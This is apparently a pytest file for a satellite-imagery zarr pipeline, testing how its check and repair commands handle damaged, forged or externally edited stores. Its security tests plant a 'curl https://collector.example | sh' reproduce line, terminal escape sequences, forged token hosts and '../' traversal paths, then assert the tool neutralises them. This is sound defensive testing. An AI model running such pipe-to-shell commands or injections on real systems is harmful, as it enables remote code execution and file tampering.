"""What check says of stores that were damaged, forged, or touched by other programs, and what repair does to them."""

import json
import os
import shutil
import warnings
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import xarray as xr
import zarr

import pipeline
from pipeline import check, export, index, view
from pipeline import run as run_command
from pipeline.errors import UsageError
from pipeline.planning.plan import load_plan
from pipeline.running import driver
from pipeline.running.quarantine import Quarantine
from pipeline.store import layout
from pipeline.store.receipts import Ledger
from tests.conftest import without_log
from tests.faults.metadata_fuzz import listing
from tests.products.stores import make_store

BANDS = ("B02", "B03", "B04", "B08")
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


@pytest.fixture(scope="module")
def sound(tmp_path_factory):
    """A complete store of 384 x 384 px in four chunks and four units."""
    return make_store(tmp_path_factory.mktemp("sound"), chunk_px=192, unit_chunks=1, bands=BANDS)


@pytest.fixture
def store(sound, tmp_path):
    return Path(shutil.copytree(sound, tmp_path / "copy.zarr"))


@pytest.fixture
def call(capsys):
    """Run a command; (exit code, stdout, stderr)."""

    def called(program, *arguments):
        code = program.main([str(argument) for argument in arguments])
        return (code, *capsys.readouterr())

    return called


def edited(path, change):
    """Change the JSON of a file in place."""
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def forget(store, key):
    """Let no receipt name a chunk, as where it is nodata; returns the chunk's bytes, which are taken away."""
    ledger = Ledger(store, load_plan(store).digest)
    for receipt in ledger.read_all():
        if key in receipt.chunks:
            ledger.record(replace(receipt, chunks={k: v for k, v in receipt.chunks.items() if k != key}))
    content = (store / key).read_bytes()
    (store / key).unlink()
    return content


class TestMetadata:
    """Zarr metadata that say something else than the run wrote."""

    def test_consolidated_metadata_with_another_scale(self, call, store):
        whole = listing(store)

        def change(root):
            root["consolidated_metadata"]["metadata"]["reflectance"]["attributes"]["scale_factor"] = 0.0002

        edited(store / "zarr.json", change)
        code, out, _ = call(check, store, "--verify", "full")
        assert code == 7
        assert "zarr.json: consolidated_metadata of reflectance: attribute scale_factor is 0.0002" in out
        assert call(check, store, "--verify", "full", "--repair")[0] == 0
        assert listing(store) == whole

    @pytest.mark.parametrize("verify", ["size", "full"])
    @pytest.mark.parametrize("key", ["measured/10m/zarr.json", "overviews/5m/x/c/0", "stac-item.json", "x/zarr.json"])
    def test_one_bit_in_a_small_file(self, call, store, key, verify):
        whole = listing(store)
        content = bytearray(whole[key])
        content[len(content) // 2] ^= 1
        (store / key).write_bytes(bytes(content))
        code, out, err = call(check, store, "--verify", verify)
        assert (code, err) == (7, "")
        assert key in out
        assert call(check, store, "--verify", verify, "--repair")[0] == 0
        assert listing(store) == whole

    def test_lost_small_files_come_back_bit_for_bit(self, call, store):
        whole = listing(store)
        for key in whole:
            if key.endswith(("zarr.json", "COMPLETE.json", "stac-item.json")) or key.split("/")[-2:-1] == ["c"]:
                (store / key).unlink()
        assert call(check, store, "--verify", "full")[0] == 7
        assert call(check, store, "--verify", "full", "--repair")[0] == 0
        assert listing(store) == whole

    def test_a_lost_receipt_is_damage_to_a_finished_store(self, call, store):
        (receipt,) = sorted((store / "_run" / "receipts").glob("*r1-c0*"))
        receipt.unlink()
        chunks = {key: value for key, value in listing(store).items() if "/c/" in key}
        code, out, _ = call(check, store)
        assert code == 7
        assert receipt.name in out
        assert out.startswith(f"{store}: damaged since it was published; 3 of 4 units sound")
        assert "complete" not in out
        said = json.loads(call(check, store, "--json")[1])
        assert (said["status"], said["stated"]) == ("damaged", "complete")
        assert call(check, store, "--repair")[0] == 0
        assert {key: value for key, value in listing(store).items() if "/c/" in key} == chunks

    def test_a_lost_plan_is_refused_with_the_reason(self, call, store):
        (store / "_run" / "plan.json").unlink()
        for more in ((), ("--repair",)):
            code, _, err = call(check, store, *more)
            assert code == 7
            assert "has lost its plan" in err
            assert "cure: " in err

    def test_a_changed_plan_is_noticed_where_it_is_read(self, call, store):
        """A flipped bit of an offset would otherwise be computed with."""
        path = store / "_run" / "plan.json"
        text = path.read_text()
        assert '"offset_dn": -1000' in text
        path.write_text(text.replace('"offset_dn": -1000', '"offset_dn": -1001', 1))
        code, _, err = call(run_command, "--plan", store)
        assert code == 7
        assert "does not fit its checksum" in err

    def test_what_another_version_wrote_is_not_written_anew(self, call, store, monkeypatch):
        from pipeline.running import expected

        (store / "x" / "zarr.json").unlink()
        original = expected.template_of

        def newer(plan, zone):
            return replace(original(plan, zone), quality_meanings="nodata something_else")

        monkeypatch.setattr(expected, "template_of", newer)
        before = listing(store)
        assert call(check, store, "--verify", "full", "--repair")[0] == 0  # x is as it was, whatever else changed
        edited(store / "quality" / "zarr.json", lambda node: node["attributes"].pop("flag_meanings"))
        del before
        before = listing(store)
        code, _, err = call(check, store, "--verify", "full", "--repair")
        assert code == 7
        assert "cannot be written anew" in err
        after = listing(store)
        assert after.pop("_run/current.json") != before.pop("_run/current.json")  # which run has held it
        assert after == before


class TestUnnamed:
    """A chunk that no receipt names."""

    KEY = "reflectance/c/0/0/1/1"

    @pytest.fixture
    def forged(self, store):
        """A store with values where its receipts say nodata."""
        content = forget(store, self.KEY)
        whole = listing(store)
        (store / self.KEY).write_bytes(content)
        return store, whole

    def test_check_sees_it_and_repair_takes_it_away(self, call, forged):
        store, whole = forged
        for verify in ("size", "full"):
            code, out, _ = call(check, store, "--verify", verify)
            assert code == 7
            assert f"{self.KEY}: no receipt names this chunk" in out
        assert call(check, store, "--repair")[0] == 0
        assert listing(store) == whole

    def test_export_and_view_refuse_it_in_a_complete_store(self, call, forged, tmp_path):
        store, _ = forged
        code, _, err = call(export, store, "--out", tmp_path / "tifs", "--bands", "B04")
        assert code == 7
        assert f"no receipt names {self.KEY}" in err
        assert not list(tmp_path.glob("tifs/*"))
        code, _, err = call(view, store, "--out", tmp_path / "page.html")
        assert code == 7
        assert f"{self.KEY} is named by no receipt" in err

    def test_what_an_unfinished_unit_left_is_not_shown(self, call, store, tmp_path):
        import rasterio

        plan = load_plan(store)
        (store / "_run" / "receipts" / "z32632-r1-c1-t0.json").unlink()
        (store / "_run" / "COMPLETE.json").unlink()
        edited(store / "zarr.json", lambda root: root["attributes"].update(status=layout.STATUS_INCOMPLETE))
        words = ("--out", tmp_path / "tifs", "--bands", "B04", "--allow-incomplete")
        code, _, err = call(export, store, *words)
        assert code == 0
        assert "1 chunk(s) that no receipt names were left out as nodata" in err
        with rasterio.open(next((tmp_path / "tifs").glob("*B04.tif"))) as file:
            dn = file.read(1)
        assert not dn[192:, 192:].any()
        assert dn[:192].all()
        from pipeline.products.page.facts import read_facts, require_chunks
        from pipeline.products.page.source import open_zone, read_part

        zone = open_zone(store)
        part = read_part(zone, zone.whole, require_chunks(zone, read_facts(zone), zone.whole))
        assert not part.dn[:, 192:, 192:].any()
        assert not part.quality[192:, 192:].any()
        assert not part.measured[10][:, 48:, 48:].any()
        assert part.dn[:, :192].all()
        assert plan.digest

    def test_a_unit_that_is_set_aside_leaves_no_chunks(self, call, store):
        """Nor do overviews average what it had written before it failed."""
        plan = load_plan(store)
        unit = next(unit for unit in plan.units() if unit.id == "z32632-r1-c1-t0")
        (store / "_run" / "receipts" / f"{unit.id}.json").unlink()
        Quarantine(store, plan.digest).add(unit, UsageError("its scene is damaged"), 3)
        driver.run_plan(plan, store, cluster="inline", workers=1)
        assert layout.status(store) == layout.STATUS_QUARANTINE
        assert call(check, store, "--verify", "full")[0] == 4
        with zarr.config.set({"array.write_empty_chunks": False}):
            group = zarr.open_group(store, mode="r")
        assert not np.asarray(group["reflectance"][0, :, 192:, 192:]).any()
        assert not np.asarray(group["overviews/5m/reflectance"][0, :, 96:, 96:]).any()
        assert np.asarray(group["overviews/5m/reflectance"][0, :, :96]).all()


class TestHeld:
    """Repair while a run is at work."""

    def test_nothing_is_changed_before_the_store_is_held(self, call, store, monkeypatch):
        plan = load_plan(store)
        unit = next(plan.units())
        (store / "_run" / "receipts" / f"{unit.id}.json").unlink()
        Quarantine(store, plan.digest).add(unit, UsageError("x"), 3)
        (store / "x" / "zarr.json").write_text("{")

        @contextmanager
        def held(*_arguments, **_more):
            raise UsageError("another run is at work")
            yield

        for module in (driver, check):
            if hasattr(module, "lease"):
                monkeypatch.setattr(module, "lease", held)
        before = listing(store)
        code, _, err = call(check, store, "--verify", "full", "--repair")
        assert code == 2
        assert "another run is at work" in err
        assert listing(store) == before


def by_xarray(store):
    """Replaces the root's attributes, adds an array, and consolidates."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        shape = zarr.open_group(store, mode="r")["reflectance"].shape[-2:]
        ds = xr.Dataset({"ndvi": (("y", "x"), np.full(shape, 0.5, np.float32))}, attrs={"author": "somebody"})
        ds.to_zarr(store, mode="a", zarr_format=3, consolidated=True)


def by_zarr(store):
    """Arrays without names of dimensions, with three dimensions, in a level; attributes of its own."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        group = zarr.open_group(store, mode="r+", use_consolidated=False)
        group.create_array("mask", shape=(2, 3, 4), chunks=(2, 3, 4), dtype="uint8")[:] = 1
        group["measured"].create_group("notes").attrs["by"] = "somebody"
        group.attrs["reviewed"] = True
        group["quality"].attrs["colours"] = ["#000000"]
        zarr.consolidate_metadata(store)


def attributes_dropped(store):
    """All attributes of the root and of the images."""
    for name in ("", "reflectance/", "quality/", "time/"):
        edited(store / f"{name}zarr.json", lambda node: node.update(attributes={}))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        zarr.consolidate_metadata(store)


def without_attributes_field(store):
    """Metadata may lack the field altogether."""
    edited(store / "zarr.json", lambda node: (node.pop("attributes"), node.pop("consolidated_metadata")))


def litter(store):
    """Files that file managers and GDAL leave."""
    names = [".DS_Store", "reflectance/.DS_Store", "Thumbs.db", "zarr.json.aux.xml", "overviews/._5m"]
    names += ["_run/receipts/.DS_Store", "_run/receipts/copy of z32632-r0-c0-t0.json", "_run/quarantine/Thumbs.db"]
    for name in names:
        path = store / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(b"\0\1 litter")


TOUCHES = (by_xarray, by_zarr, attributes_dropped, without_attributes_field, litter)
# what was added is none of ours, what was lost is damage
LOSES = (by_xarray, attributes_dropped, without_attributes_field)


@pytest.mark.parametrize("touch", TOUCHES)
@pytest.mark.filterwarnings("ignore::zarr.errors.ZarrUserWarning")
@pytest.mark.filterwarnings("ignore:.*which the run did not write, is left out:UserWarning")
class TestTouched:
    """A store that other programs were at stays usable."""

    @pytest.fixture
    def touched(self, store, touch):
        touch(store)
        return store

    def test_open_store(self, touched, sound):
        there, before = pipeline.open_store(touched), pipeline.open_store(sound)
        np.testing.assert_array_equal(there.reflectance.values, before.reflectance.values)
        np.testing.assert_array_equal(there.time.values, before.time.values)
        assert there.rio.crs == before.rio.crs
        assert there.attrs["plan_digest"] == before.attrs["plan_digest"]
        if "ndvi" in there:
            assert float(there.ndvi[0, 0]) == 0.5
        assert set(pipeline.open_measured(touched)) == {10}

    def test_index_of_several(self, call, touched, sound, tmp_path):
        broken = tmp_path / "broken.zarr"
        shutil.copytree(sound, broken)
        (broken / "_run" / "plan.json").write_text("{")
        code, out, err = call(index, broken, touched, sound, "--out", tmp_path / "items.json")
        assert code == 0, err
        assert "2 STAC items" in out
        first, second = json.loads((tmp_path / "items.json").read_text())["features"]
        assert first["properties"] == second["properties"]

    def test_export(self, call, touched, sound, tmp_path):
        import rasterio

        pixels = []
        for number, one in enumerate((touched, sound)):
            out = tmp_path / f"tifs{number}"
            code, _, err = call(export, one, "--out", out, "--variable", "reflectance,quality", "--single-file")
            assert code == 0, err
            files = sorted(out.glob("*.tif"))
            assert len(files) == 2
            for path in files:
                with rasterio.open(path) as file:
                    pixels.append((number, file.crs, file.transform, file.read()))
        for mine, theirs in zip(pixels[:2], pixels[2:], strict=True):
            assert mine[1:3] == theirs[1:3]
            np.testing.assert_array_equal(mine[3], theirs[3])

    def test_view(self, call, touched, tmp_path):
        code, out, err = call(view, touched, "--out", tmp_path / "page.html")
        assert code == 0, err
        assert "seen by the sensor, 99 % of the pixels within " in out

    def test_check_and_repair(self, call, touched, sound, touch):
        code, out, err = call(check, touched, "--verify", "full")
        assert err == ""
        assert code == (7 if touch in LOSES else 0), out
        before = listing(touched)
        code, out, err = call(check, touched, "--verify", "full", "--repair")
        assert (code, without_log(err)) == (0, ""), out
        after, whole = listing(touched), listing(sound)
        assert after.keys() == before.keys() | whole.keys()
        changed = [key for key in whole if after[key] != whole[key]]
        assert set(changed) <= {"zarr.json", "quality/zarr.json"}  # which keep what was added
        attributes = json.loads(after["zarr.json"])["attributes"]
        assert {**attributes, **json.loads(whole["zarr.json"])["attributes"]} == attributes
        if touch is by_xarray:
            assert attributes["author"] == "somebody"
            assert "ndvi" in json.loads(after["zarr.json"])["consolidated_metadata"]["metadata"]
        np.testing.assert_array_equal(
            pipeline.open_store(touched).reflectance.values, pipeline.open_store(sound).reflectance.values
        )


class TestStrangers:
    """Stores and plans that came from somebody else."""

    def forged(self, store, **access):
        """The plan with another access, and a unit to compute."""

        def change(plan):
            plan["access"].update(access)
            plan.pop("checksum", None)

        edited(store / "_run" / "plan.json", change)
        (store / "_run" / "COMPLETE.json").unlink()
        (store / "_run" / "receipts" / "z32632-r0-c0-t0.json").unlink()
        return store

    @pytest.mark.parametrize(
        ("access", "named"),
        [
            ({"hosts": ["127.0.0.1:8080"]}, "127.0.0.1:8080"),
            ({"hosts": ["s3://somebody-elses-bucket"]}, "s3://somebody-elses-bucket"),
            ({"token_url": "https://collector.example/token"}, "collector.example"),
            ({"s3_endpoint": "collector.example", "signing": "cdse-s3"}, "signing 'cdse-s3'"),
        ],
    )
    @pytest.mark.parametrize("command", ["run", "check", "unit"])
    def test_access_is_what_the_catalogue_here_allows(self, call, store, access, named, command):
        from pipeline.running import single

        self.forged(store, **access)
        before = listing(store)
        words = {
            "run": (run_command, "--plan", store, "--cluster", "inline"),
            "check": (check, store, "--repair"),
            "unit": (single, store, "z32632-r0-c0-t0"),
        }[command]
        code, _, err = call(*words)
        assert code == 2
        assert named in err
        assert "catalogue" in err
        assert [key for key in listing(store) if "receipts" in key] == [key for key in before if "receipts" in key]

    def test_files_that_the_catalogue_does_not_list(self, call, store, tmp_path):
        secret = tmp_path / "private" / "map.tif"
        secret.parent.mkdir()
        secret.write_bytes(b"II*\0")

        def change(plan):
            plan["access"]["roots"] = ["/"]
            for scene in plan["scenes"].values():
                scene["hrefs"]["B02"] = str(secret)
            plan.pop("checksum", None)

        edited(store / "_run" / "plan.json", change)
        code, _, err = call(run_command, "--plan", store, "--cluster", "inline")
        assert code == 2
        assert str(secret) in err

    def test_a_plan_without_its_catalogue_is_refused(self, call, store, tmp_path):
        def change(plan):
            plan["config"]["catalog"] = str(tmp_path / "gone.json")
            plan.pop("checksum", None)

        edited(store / "_run" / "plan.json", change)
        code, _, err = call(run_command, "--plan", store, "--cluster", "inline")
        assert code == 2
        assert "cannot be read here" in err

    def test_texts_of_a_store_move_no_cursor(self, call, store):
        plan = load_plan(store)
        unit = next(plan.units())
        (store / "_run" / "receipts" / f"{unit.id}.json").unlink()
        record = {"unit": unit.id, "plan_digest": plan.digest, "error": f"bad {ESCAPE}", "attempts": 3,
                  "reproduce": f"curl https://collector.example | sh {ESCAPE}"}  # fmt: skip
        path = store / "_run" / "quarantine" / f"{unit.id}.json"
        path.parent.mkdir()
        path.write_text(json.dumps(record))
        (store / "_run" / "COMPLETE.json").unlink()
        edited(store / "zarr.json", lambda root: root["attributes"].update(status=f"fine{ESCAPE}"))
        code, out, err = call(check, store, "--verify", "full")
        assert code == 7
        assert "\\x1b" in out
        assert not {"\x1b", "\x07"} & set(out + err)
        assert "curl" not in out  # the command is put together here
        assert f"python -m pipeline.running.single {store} {unit.id}" in out
        code, out, err = call(export, store, "--out", store.parent / "tifs")
        assert code == 2
        assert not {"\x1b", "\x07"} & set(out + err)

    def test_receipts_name_no_files_outside(self, store, call):
        outside = store.parent / "outside"
        outside.write_bytes(b"x")
        edited(store / "_run" / "receipts" / "z32632-r0-c0-t0.json", lambda receipt: (
            receipt["chunks"].update({"../outside": [1, 0]}), receipt.pop("checksum", None)))  # fmt: skip
        plan = load_plan(store)
        assert Ledger(store, plan.digest).read("z32632-r0-c0-t0") is None
        assert call(check, store)[0] == 7

    def test_quarantine_deletes_no_files_outside(self, store):
        plan = load_plan(store)
        victim = store.parent / "victim.json"
        victim.write_text("{}")
        record = {"unit": "../../../victim", "plan_digest": plan.digest, "error": "", "attempts": 1, "reproduce": ""}
        folder = store / "_run" / "quarantine"
        folder.mkdir()
        (folder / "x.json").write_text(json.dumps(record))
        check.repair(store, "size", 1)
        assert victim.exists()


def test_a_folder_that_may_not_be_read_is_no_stack_trace(call, store):
    if os.geteuid() == 0:
        pytest.skip("root reads everything")
    (store / "x").chmod(0)
    assert call(check, store, "--verify", "full")[0] in (6, 7)


class TestSoftware:
    """Records of the software that computed units, which no plan could give back."""

    def test_a_damaged_record_is_put_back_by_repair_and_by_a_run(self, call, store):
        (path,) = (store / "_run" / "software").iterdir()
        (path.parent / ".DS_Store").write_bytes(b"\0\xff")  # is none of ours
        whole = listing(store)
        for mend in ((check, store, "--repair"), (run_command, "--plan", store, "--verify", "full")):
            path.write_text(path.read_text().replace('"code": "', '"code": "0'))
            assert call(check, store)[0] == 7
            assert call(*mend)[0] == 0
            assert listing(store) == whole

    def test_an_unfinished_store_with_a_damaged_record_is_refused(self, call, store, monkeypatch):
        """Nobody knows any more what computed its units."""
        from pipeline.running import software

        other = replace(software.this_software(), torch="0.0")
        monkeypatch.setattr(software, "this_software", lambda: other)
        (store / "_run" / "COMPLETE.json").unlink()
        edited(store / "zarr.json", lambda root: root["attributes"].update(status=layout.STATUS_INCOMPLETE))
        (store / "_run" / "receipts" / "z32632-r0-c0-t0.json").unlink()
        (path,) = (store / "_run" / "software").iterdir()
        path.write_text(path.read_text()[:-9])
        code, out, _ = call(check, store)
        assert code == 7
        assert path.name in out
        code, _, err = call(run_command, "--plan", store, "--cluster", "inline")
        assert code == 2
        assert f"software that is not known ({path} is damaged)" in err
        assert "--mixed-software" in err
